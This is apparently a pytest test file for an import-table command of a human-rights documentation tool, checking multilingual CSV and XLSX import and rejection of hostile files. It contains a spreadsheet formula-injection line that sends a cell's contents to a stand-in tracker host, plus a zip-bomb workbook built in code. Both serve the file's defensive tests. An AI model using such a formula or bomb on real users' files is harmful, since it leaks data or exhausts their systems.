"""`hrdoc import-table`: years of incidents from a spreadsheet, checked row by
row and imported all or nothing; hostile files get one line and change
nothing (the vault's files byte for byte)."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from hrdoc.core.records import Case, Incident
from hrdoc.core.vocab import LANGUAGES
from hrdoc.exchange.tables import (
    FIELDS,
    HEADER_NAMES,
    TableError,
    guess_mapping,
    import_table,
    read_table,
)
from tests.conftest import snapshot
from tests.test_hostile_input import one_line_refusal


def write_csv(path: Path, rows: list[list[str]], sep: str = ",", encoding: str = "utf-8") -> Path:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=sep, lineterminator="\r\n").writerows(rows)
    path.write_bytes(buffer.getvalue().encode(encoding))
    return path


def unchanged_after(vault_dir: Path, action) -> None:  # type: ignore[no-untyped-def]
    before = snapshot(vault_dir)
    action()
    assert snapshot(vault_dir) == before


@given(
    field=st.sampled_from(FIELDS),
    data=st.data(),
)
def test_headers_are_recognised_in_four_languages_however_they_are_written(field, data):
    name = data.draw(st.sampled_from(HEADER_NAMES[field]))
    variant = data.draw(st.sampled_from([name, name.upper(), f"  {name} ", name.title()]))
    assert guess_mapping(["other column", variant]) == {variant: field}


@settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    rows=st.lists(
        st.tuples(
            st.text(st.characters(blacklist_categories=("Cs", "Cc")), min_size=1, max_size=40)
            .map(str.strip)
            .filter(bool),
            st.sampled_from(["2016", "2016-08", "2016-08-10", "~2017-03"]),
            st.sampled_from(["TN", "Tunisia", "Tunisie", "تونس", "Túnez", "zz"]),
            st.lists(st.sampled_from(["phishing", "arrest", "raid"]), unique=True, max_size=2),
            st.sampled_from(LANGUAGES),
        ),
        min_size=1,
        max_size=8,
    ),
)
def test_rows_written_in_any_language_are_stored_as_they_mean(store, tmp_path, rows):
    vocab = store.vocab["incident_types"]
    table = [["Title", "Date", "Country", "Type"]]
    for title, date, country, types, lang in rows:
        table.append([title, date, country, "|".join(vocab.label(t, lang) for t in types)])
    path = write_csv(tmp_path / "cases.csv", table)
    case = store.add(Case(title="imported"))
    plan = import_table(store, path, case_id=case.id)
    assert plan.problems == [] and plan.imported
    stored = store.find(Incident, where={"case_id": case.id})
    stored.sort(key=lambda i: int(i.sources[0].rsplit(" ", 1)[1]))
    assert len(stored) == len(rows)
    for incident, (title, date, country, types, _lang) in zip(stored, rows, strict=True):
        assert incident.title == title
        assert incident.start_date == date.lstrip("~")
        by_length = {4: "year", 7: "month", 10: "day"}[len(date.lstrip("~"))]
        assert incident.start_precision == ("approximate" if "~" in date else by_length)
        assert incident.country == ("ZZ" if country == "zz" else "TN")
        assert incident.types == list(types)


def test_one_bad_row_among_many_imports_nothing_and_names_the_row(store, vault_dir, tmp_path):
    table = [["title", "date", "country"]] + [
        [f"incident {n}", "2016-08", "TN"] for n in range(200)
    ]
    table[150][2] = "Atlantis"
    path = write_csv(tmp_path / "many.csv", table)
    plan = import_table(store, path)
    assert not plan.imported and [p.row for p in plan.problems] == [151]
    assert "unknown country 'Atlantis'" in plan.problems[0].message
    assert store.find(Incident) == []


def test_the_cli_lists_every_problem_then_refuses_in_one_line_and_changes_nothing(
    cli, vault_dir, tmp_path
):
    assert cli("init").code == 0
    path = write_csv(
        tmp_path / "fr.csv",
        [
            ["Titre", "Date", "Pays", "Type"],
            ["Perquisition", "10/08/2016", "Tunisie", "Arestation"],
        ],
        sep=";",
    )
    before = snapshot(vault_dir)
    done = cli("import-table", str(path))
    one_line_refusal(done)
    assert "could be day/month" in done.out and "did you mean" in done.out
    assert snapshot(vault_dir) == before
    mapping = tmp_path / "mapping.json"
    fixed = write_csv(
        tmp_path / "fr2.csv",
        [
            ["Titre", "Date", "Pays", "Type"],
            ["Perquisition", "10/08/2016", "Tunisie", "Perquisition"],
        ],
        sep=";",
    )
    preview = cli(
        "import-table", str(fixed), "--dates", "dmy", "--dry-run", "--save-mapping", str(mapping)
    )
    assert preview.code == 0, preview.err
    assert "date: 2016-08-10" in preview.out and "nothing was imported" in preview.out
    assert json.loads(mapping.read_text())["columns"]["Pays"] == "country"
    done = cli("import-table", str(fixed), "--dates", "dmy", "--mapping", str(mapping))
    assert done.code == 0, done.err
    assert "imported 1 incident(s)" in done.out


@pytest.mark.parametrize(
    "content, message",
    [
        ("Titre;Date\nRéunion;2016\n".encode("cp1252"), "not UTF-8"),
        (b"title,date\n\x00\x01\x02,2016\n", "binary data"),
        (("x," * 1_000_000 + "title\n").encode(), "columns"),
        (b'title,date\n"unclosed,2016\n', "not a well-formed CSV"),
        (b"", "no header row"),
        (b"date\n2016\n", "no column is mapped to the incident title"),
        (b"title,title\na,b\n", "two columns are named"),
    ],
)
def test_hostile_csv_files_get_one_line_and_change_nothing(
    cli, vault_dir, tmp_path, content, message
):
    assert cli("init").code == 0
    path = tmp_path / "hostile.csv"
    path.write_bytes(content)
    before = snapshot(vault_dir)
    done = cli("import-table", str(path))
    one_line_refusal(done)
    assert message in done.err
    assert snapshot(vault_dir) == before


def test_encodings_and_byte_order_marks_excel_writes(store, tmp_path):
    rows = [["Titre", "Pays"], ["Réunion à Sfax", "Tunisie"]]
    for name, data in {
        "utf8-bom.csv": b"\xef\xbb\xbf" + "Titre;Pays\nRéunion à Sfax;Tunisie\n".encode(),
        "utf16.csv": "Titre\tPays\nRéunion à Sfax\tTunisie\n".encode("utf-16"),
    }.items():
        (tmp_path / name).write_bytes(data)
        table = read_table(tmp_path / name)
        assert table.headers == rows[0] and table.rows == [rows[1]]
    (tmp_path / "old.csv").write_bytes("Titre;Pays\nRéunion à Sfax;Tunisie\n".encode("cp1252"))
    with pytest.raises(TableError, match="--encoding"):
        read_table(tmp_path / "old.csv")
    assert read_table(tmp_path / "old.csv", "cp1252").rows == [rows[1]]


def test_a_formula_is_stored_as_the_text_it_is_and_never_run(store, tmp_path):
    formula = '=HYPERLINK("https://tracker.example/?"&A1,"click")'
    path = write_csv(tmp_path / "f.csv", [["title", "description"], ["lure", formula]])
    import_table(store, path)
    (incident,) = store.find(Incident)
    assert incident.description == formula


def test_an_xlsx_workbook_with_dates_numbers_and_formulas(store, tmp_path):
    import datetime as dt

    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["العنوان", "التاريخ", "البلد", "خط العرض", "خط الطول", "الوصف"])
    sheet.append(
        ["مداهمة ليلية", dt.datetime(2017, 3, 20), "الإمارات العربية المتحدة", 24.45, 54, "x"]
    )
    sheet.append(["رسالة", "2016-08", "AE", None, None, "=1+1"])
    book.save(tmp_path / "cases.xlsx")
    plan = import_table(store, tmp_path / "cases.xlsx")
    assert plan.problems == [] and plan.imported
    stored = sorted(store.find(Incident), key=lambda i: i.title)
    assert [(i.title, i.start_date, i.country) for i in stored] == [
        ("رسالة", "2016-08", "AE"),
        ("مداهمة ليلية", "2017-03-20", "AE"),
    ]
    assert stored[1].latitude == 24.45
    assert stored[0].description in ("", "=1+1")  # its last result (none saved), never run


def test_a_zip_bomb_workbook_is_refused_unread(cli, vault_dir, tmp_path):
    assert cli("init").code == 0
    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(bomb, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (64 << 20))
    before = snapshot(vault_dir)
    done = cli("import-table", str(bomb))
    one_line_refusal(done)
    assert "zip bomb" in done.err
    assert snapshot(vault_dir) == before
    (tmp_path / "fake.xlsx").write_bytes(b"PK\x03\x04 not really a zip")
    one_line_refusal(cli("import-table", str(tmp_path / "fake.xlsx")))


def test_hrdocs_own_uwazi_csv_comes_back_as_the_same_incidents(cli, tmp_path):
    """A round trip through the Uwazi file: dates keep their precision, the
    English columns are read, coordinates are found by their values."""
    from hrdoc.core.store import Store
    from hrdoc.core.vault import Vault
    from tests.conftest import PASSPHRASE

    assert cli("init", "--sample").code == 0
    out = tmp_path / "u.csv"
    assert (
        cli("export", "report", "--profile", "full", "--format", "uwazi", "-o", str(out)).code == 0
    )
    other = tmp_path / "other"
    assert cli("--vault", str(other), "init").code == 0
    done = cli("--vault", str(other), "import-table", str(out))
    assert done.code == 0, done.out + done.err
    first = Store(Vault.open(tmp_path / "hrdoc-home" / "vault", PASSPHRASE))
    second = Store(Vault.open(other, PASSPHRASE))

    def key(i: Incident) -> tuple:  # type: ignore[type-arg]
        return (i.title, i.description, i.start_date, i.start_precision, i.country)

    originals = {i.title: i for i in first.find(Incident)}
    copies = {i.title: i for i in second.find(Incident)}
    assert set(copies) == set(originals)
    for title, copy in copies.items():
        original = originals[title]
        assert key(copy) == key(original)
        assert copy.types == original.types and copy.verification == original.verification
        assert (copy.latitude, copy.longitude) == (original.latitude, original.longitude)
    senders = second.vault.conn.execute("SELECT DISTINCT sender_name FROM provenance").fetchall()
    assert senders == [("u.csv (unsigned)",)]


def test_a_csv_exported_by_uwazi_itself(store, tmp_path):
    """Uwazi's exporter (app/api/csv/typeFormatters.ts, 04943fec): headers are
    the property labels, a date range is from~to, geolocation lat|lon."""
    path = write_csv(
        tmp_path / "uwazi-export.csv",
        [
            ["Title", "Creation date", "Template", "Date", "Country", "Incident type", "Location"],
            [
                "Raid",
                "2024-01-05",
                "hrdoc incident",
                "2017-03-01~2017-03-31",
                "Tunisia",
                "Raid",
                "36.8|10.18",
            ],
            [
                "Travel ban",
                "2024-01-05",
                "hrdoc incident",
                "2019-01-01~2019-12-31",
                "",
                "Travel ban",
                "",
            ],
            ["Detention", "2024-01-05", "hrdoc incident", "2020-05-02~2020-06-10", "TN", "", ""],
        ],
    )
    plan = import_table(store, path)
    assert plan.problems == [], plan.problems
    assert plan.mapping["Location"] == "coordinates"
    stored = {i.title: i for i in store.find(Incident)}
    assert (stored["Raid"].start_date, stored["Raid"].start_precision) == ("2017-03", "month")
    assert (stored["Raid"].latitude, stored["Raid"].longitude) == (36.8, 10.18)
    assert (stored["Travel ban"].start_date, stored["Travel ban"].start_precision) == (
        "2019",
        "year",
    )
    assert (stored["Detention"].start_date, stored["Detention"].end_date) == (
        "2020-05-02",
        "2020-06-10",
    )
